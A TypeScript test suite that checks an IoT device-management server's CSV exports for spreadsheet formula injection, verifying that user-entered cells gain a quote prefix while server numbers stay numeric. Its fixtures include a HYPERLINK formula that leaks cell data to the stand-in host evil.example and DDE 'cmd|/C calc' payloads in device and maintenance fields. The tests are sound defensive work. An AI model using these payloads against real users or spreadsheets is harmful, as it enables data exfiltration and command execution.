import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvText } from '../src/server/core/csv.js';
import { startTestApp, type SignedIn, type TestApp } from './helpers/app.js';

/**
 * CSV exports open in spreadsheets, which run a cell starting with = + - @ tab or CR as a formula. Text
 * typed by users or sent by devices comes out with a leading quote; numbers the server writes stay numbers.
 */
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

describe('CSV exports neutralise formulas', () => {
  let app: TestApp;
  let owner: SignedIn;
  let radar: string;
  let fridge: string;

  before(async () => {
    app = await startTestApp();
    owner = await app.owner();
    const created = await owner.client.post('/api/v1/devices', { kind: 'speed_radar', name: HYPERLINK, serial: 'CSV-RADAR', speedLimit: 30 });
    radar = created.body.device.id;
    const events = [{ client_ref: 'a', ts: '2026-10-05T08:00:00Z', kind: 'speed', speed: 41.5, speed_limit: 30 }];
    const sent = await app.runtime.app.inject({ method: 'POST', url: '/api/v1/ingest/events', headers: { 'x-api-key': created.body.apiKey }, payload: { events } });
    assert.equal(sent.statusCode, 200, sent.body);
    fridge = (await owner.client.post('/api/v1/devices', { kind: 'refrigeration', name: '@SUM(1+1)*cmd|/C calc!A0', serial: 'CSV-FRIDGE' })).body.device.id;
  });
  after(async () => app.close());

  it('prefixes every formula start, and leaves numbers (negative ones too) as numbers', () => {
    const text = csvText([['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx', 'plain', -3.5, 0, 42]]);
    const [row] = parse(text, { relax_quotes: true }) as string[][];
    assert.deepEqual(row, ["'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", 'plain', '-3.5', '0', '42']);
  });

  it('events.csv: a device name is text, the speed a number', async () => {
    const response = await owner.client.request('GET', `/api/v1/events.csv?deviceId=${radar}`);
    assert.equal(response.status, 200);
    const [row] = parse(String(response.body), { columns: true }) as Record<string, string>[];
    assert.equal(row!.device, `'${HYPERLINK}`);
    assert.equal(row!.speed, '41.5');
  });

  it('maintenance records.csv and due.csv: notes, technician, description and parts are text; days overdue stay negative numbers', async () => {
    const overdue = new Date(Date.now() - 3 * 86_400_000).toISOString().slice(0, 10);
    const logged = await owner.client.post(`/api/v1/devices/${fridge}/maintenance`, {
      type: 'corrective', performedAt: '2025-01-01T00:00:00Z', performedBy: '+1 555 0100', description: '-2+3+cmd|" /C calc"!A0', notes: HYPERLINK,
      parts: ['@SUM(A1)'], cost: 12.5, currency: 'EUR', nextDueOn: overdue,
    });
    assert.equal(logged.status, 201, JSON.stringify(logged.body));
    const records = parse(String((await owner.client.get(`/api/v1/maintenance/records.csv?deviceId=${fridge}`)).body), { columns: true }) as Record<string, string>[];
    assert.equal(records.length, 1);
    const [record] = records;
    assert.equal(record!.device, "'@SUM(1+1)*cmd|/C calc!A0");
    assert.equal(record!.performed_by, "'+1 555 0100");
    assert.equal(record!.description, `'-2+3+cmd|" /C calc"!A0`);
    assert.equal(record!.notes, `'${HYPERLINK}`);
    assert.equal(record!.parts, "'@SUM(A1)");
    assert.equal(record!.cost, '12.5');

    const due = parse(String((await owner.client.get('/api/v1/maintenance/due.csv')).body), { columns: true }) as Record<string, string>[];
    const mine = due.find((d) => d.device_id === fridge);
    assert.equal(mine!.device, "'@SUM(1+1)*cmd|/C calc!A0");
    assert.equal(mine!.days_until_due, '-3', 'a number the server wrote, not neutralised');
    assert.equal(mine!.last_performed_by, "'+1 555 0100");
  });

  it('a speed study\'s CSV files: the device name is text, speeds are numbers', async () => {
    const created = await owner.client.post('/api/v1/reports', { kind: 'speed_study', deviceId: radar, from: '2026-10-01', to: '2026-10-09' });
    assert.equal(created.status, 202, JSON.stringify(created.body));
    await app.runtime.services.reportRunner.runQueued();
    const download = (file: string) => app.runtime.app.inject({ method: 'GET', url: `/api/v1/reports/${created.body.id}/files/${file}`, headers: { cookie: owner.client.cookie! } });
    const events = parse((await download('events')).body, { columns: true }) as Record<string, string>[];
    assert.equal(events.length, 1);
    assert.equal(events[0]!.device, `'${HYPERLINK}`);
    assert.equal(events[0]!.speed, '41.5');
    const figures = parse((await download('csv')).body) as string[][];
    assert.deepEqual(figures.find((r) => r[0] === 'study' && r[1] === 'subject')?.[2], `'${HYPERLINK}`);
  });
});
